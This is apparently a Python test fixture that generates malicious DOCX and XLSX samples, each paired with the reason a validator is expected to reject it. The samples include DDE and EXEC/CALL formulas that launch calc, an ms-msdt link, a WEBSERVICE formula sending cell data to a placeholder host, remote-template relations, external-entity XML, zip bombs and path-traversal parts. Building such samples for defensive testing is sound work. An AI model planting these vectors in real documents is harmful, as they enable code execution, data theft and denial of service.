"""Word and Excel files with something in them that acts, reaches outside or grows. All words are made up."""

import io
import zipfile
from collections.abc import Callable, Iterator

from tests import files
from tests.made.hostile.base import (
    EXCEL,
    MIB,
    OUTSIDE,
    WORD,
    Sent,
    archive,
    good_docx,
    good_xlsx,
    laughs,
)


def grown(base: bytes, part: str, size: int) -> bytes:
    """The archive with a part that unpacks to so many blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != part:
                new.writestr(name, old.read(name))
        with new.open(part, "w", force_zip64=True) as growing:
            for _ in range(size // MIB):
                growing.write(b" " * MIB)
    return out.getvalue()


def relation(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def docx_with(part: str, content: bytes) -> bytes:
    return files.with_parts(good_docx(), {part: content})


def xlsx_with(part: str, content: bytes) -> bytes:
    return files.with_parts(good_xlsx(), {part: content})


def docx_field(instruction: str) -> bytes:
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ).encode()
    return files.reset_words(good_docx(), "word/document.xml", b"<w:body>", b"<w:body>" + field)


def xlsx_formula(formula: str) -> bytes:
    return files.workbook({"Audit": [["Ward", "Alarms"], ["Rowan", formula]]})


def offices() -> Iterator[Sent]:
    macro = b"macroEnabled"
    slip = {"../evil.xml": b"<x/>"}
    word: tuple[tuple[str, Callable[[], bytes], str], ...] = (
        ("macros", lambda: docx_with("word/vbaProject.bin", b"x"), "macros"),
        (
            "macro type",
            lambda: files.reset_words(
                good_docx(),
                "[Content_Types].xml",
                b"officedocument.wordprocessingml.document.main",
                b"ms-word.document." + macro + b".main",
            ),
            "macros",
        ),
        (
            "OLE object",
            lambda: docx_with("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
            "files inside",
        ),
        ("workbook inside", lambda: docx_with("word/embeddings/a.xlsx", good_xlsx()), "files inside"),
        ("archive inside", lambda: docx_with("word/media/a.png", archive({"a": b"x"})), "another file"),
        ("program inside", lambda: docx_with("word/media/a.emf", b"MZ\x90\x00"), "another file"),
        ("ActiveX", lambda: docx_with("word/activeX/activeX1.xml", b"<x/>"), "ActiveX"),
        ("web page part", lambda: docx_with("word/afchunk.htm", b"<html/>"), "files inside"),
        (
            "template from elsewhere",
            lambda: docx_with(
                "word/_rels/settings.xml.rels", relation("attachedTemplate", "https://x.example/a.dotm")
            ),
            "fetches",
        ),
        (
            "picture from elsewhere",
            lambda: docx_with("word/_rels/header9.xml.rels", relation("image", "https://x.example/a.png")),
            "fetches",
        ),
        (
            "frame from elsewhere",
            lambda: docx_with(
                "word/_rels/webSettings.xml.rels", relation("frame", "https://x.example/a.htm")
            ),
            "fetches",
        ),
        (
            "object from a share",
            lambda: docx_with("word/_rels/footer9.xml.rels", relation("oleObject", "file://share/a")),
            "fetches",
        ),
        (
            "link to a file",
            lambda: docx_with("word/_rels/footer9.xml.rels", relation("hyperlink", "file:///c:/x.exe")),
            "does not lead",
        ),
        (
            "link that runs",
            lambda: docx_with(
                "word/_rels/footer9.xml.rels", relation("hyperlink", "ms-msdt:/id PCWDiagnostic")
            ),
            "does not lead",
        ),
        (
            "script link",
            lambda: docx_with("word/_rels/footer9.xml.rels", relation("hyperlink", "javascript:alert(1)")),
            "does not lead",
        ),
        ("DDE field", lambda: docx_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "DDE"),
        ("included text", lambda: docx_field('INCLUDETEXT "https://x.example/a"'), "field"),
        ("included picture", lambda: docx_field('INCLUDEPICTURE "https://x.example/a" \\d'), "field"),
        ("button of macros", lambda: docx_field("MACROBUTTON Run x"), "field"),
        ("entities that grow", lambda: docx_with("word/styles.xml", laughs()), "entities"),
        ("entity from outside", lambda: docx_with("word/document.xml", OUTSIDE), "entities"),
        ("part outside", lambda: files.with_parts(good_docx(), slip), "another place"),
        (
            "part at an absolute place",
            lambda: files.with_parts(good_docx(), {"/etc/x.xml": b"<x/>"}),
            "place",
        ),
        ("part on a drive", lambda: files.with_parts(good_docx(), {"C:\\x.xml": b"<x/>"}), "place"),
        ("part that is a link", _docx_with_link, "points to another place"),
        ("part twice", _docx_with_part_twice, ""),
        ("part with a password", lambda: _flagged(good_docx()), ""),
        (
            "4,000 parts",
            lambda: files.with_parts(good_docx(), {f"word/x{n}.xml": b"<x/>" for n in range(4000)}),
            "parts",
        ),
        ("part of 300 MB", lambda: grown(good_docx(), "word/document.xml", 300 * MIB), "Unpacked"),
        ("part packed tightly", lambda: grown(good_docx(), "word/styles.xml", 60 * MIB), "packed"),
        ("elements within elements", lambda: docx_with("word/document.xml", b"<a>" * 200_000), ""),
        ("no document", lambda: archive({"[Content_Types].xml": b"<Types/>"}), ""),
        ("plain archive", lambda: archive({"audit.pdf": b"%PDF-1.4"}), "archive"),
        ("archive within archive within archive", lambda: archive({"a.zip": archive({"b.zip": b"x"})}), ""),
        (
            "OpenDocument",
            lambda: archive({"mimetype": b"application/vnd.oasis.opendocument.text"}),
            "OpenDocument",
        ),
        ("PowerPoint", lambda: archive({"[Content_Types].xml": b"<x>presentationml</x>"}), "PowerPoint"),
    )
    for label, make, why in word:
        yield Sent(f"DOCX: {label}", "audit.docx", make, "", why)
    sheet: tuple[tuple[str, Callable[[], bytes], str], ...] = (
        ("macros", lambda: xlsx_with("xl/vbaProject.bin", b"x"), "macros"),
        ("old macro sheet", lambda: xlsx_with("xl/macrosheets/sheet1.xml", b"<x/>"), "macros"),
        (
            "links to another workbook",
            lambda: xlsx_with("xl/externalLinks/externalLink1.xml", b"<x/>"),
            "links",
        ),
        ("connections", lambda: xlsx_with("xl/connections.xml", b"<x/>"), "connections"),
        ("query", lambda: xlsx_with("xl/queryTables/queryTable1.xml", b"<x/>"), "connections"),
        ("buttons", lambda: xlsx_with("customUI/customUI.xml", b"<x/>"), "buttons"),
        ("embedded file", lambda: xlsx_with("xl/embeddings/a.bin", b"x"), "files inside"),
        (
            "binary workbook",
            lambda: files.reset_words(
                good_xlsx(), "[Content_Types].xml", b"spreadsheetml.sheet.main", b"ms-excel.sheet.binary.main"
            ),
            "",
        ),
        ("DDE formula", lambda: xlsx_formula("=cmd|'/C calc'!A0"), "formula"),
        ("formula that fetches", lambda: xlsx_formula('=WEBSERVICE("https://x.example/"&A1)'), "formula"),
        ("formula that calls", lambda: xlsx_formula('=CALL("kernel32","WinExec","JCJ","calc",0)'), "formula"),
        ("formula that runs", lambda: xlsx_formula('=EXEC("calc.exe")'), "formula"),
        ("link formula to a share", lambda: xlsx_formula('=HYPERLINK("\\\\share\\x.exe","see")'), "formula"),
        (
            "name that runs on opening",
            lambda: files.reset_words(
                good_xlsx(),
                "xl/workbook.xml",
                b"</sheets>",
                b'</sheets><definedNames><definedName name="Auto_Open">x</definedName></definedNames>',
            ),
            "opened",
        ),
        ("entities that grow", lambda: xlsx_with("xl/sharedStrings.xml", laughs()), "entities"),
        ("entity from outside", lambda: xlsx_with("xl/worksheets/sheet1.xml", OUTSIDE), "entities"),
        ("part outside", lambda: files.with_parts(good_xlsx(), slip), "another place"),
        ("sheet of 300 MB", lambda: grown(good_xlsx(), "xl/worksheets/sheet1.xml", 300 * MIB), "Unpacked"),
        ("no sheets", lambda: xlsx_with("xl/workbook.xml", b"<workbook/>"), ""),
        ("broken XML", lambda: xlsx_with("xl/worksheets/sheet1.xml", b"<worksheet><a"), ""),
        ("a million rows", lambda: _rows_of(1_000_000), ""),
    )
    for label, make, why in sheet:
        yield Sent(f"XLSX: {label}", "audit.xlsx", make, "", why)
    yield Sent("XLSX: sums", "audit.xlsx", lambda: xlsx_formula("=SUM(B1:B1)"), EXCEL)
    yield Sent(
        "DOCX: link to a page",
        "audit.docx",
        lambda: docx_with(
            "word/_rels/footer9.xml.rels", relation("hyperlink", "https://trust.example.org/a?b=1")
        ),
        WORD,
    )


def _rows_of(count: int) -> bytes:
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    content = files.part(good_xlsx(), "xl/worksheets/sheet1.xml")
    start, end = content.index(b"<sheetData>") + 11, content.index(b"</sheetData>")
    return xlsx_with("xl/worksheets/sheet1.xml", content[:start] + row * count + content[end:])


def _docx_with_link() -> bytes:
    out = io.BytesIO(good_docx())
    with zipfile.ZipFile(out, "a") as held:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        held.writestr(link, "/etc/passwd")
    return out.getvalue()


def _docx_with_part_twice() -> bytes:
    import warnings

    out = io.BytesIO(good_docx())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as held:
        warnings.simplefilter("ignore")
        held.writestr("word/document.xml", b"<x/>")
    return out.getvalue()


def _flagged(content: bytes) -> bytes:
    """Says of the last part that a password protects it."""
    out = bytearray(content)
    at = out.rindex(b"PK\x01\x02")
    out[at + 8] |= 1
    return bytes(out)
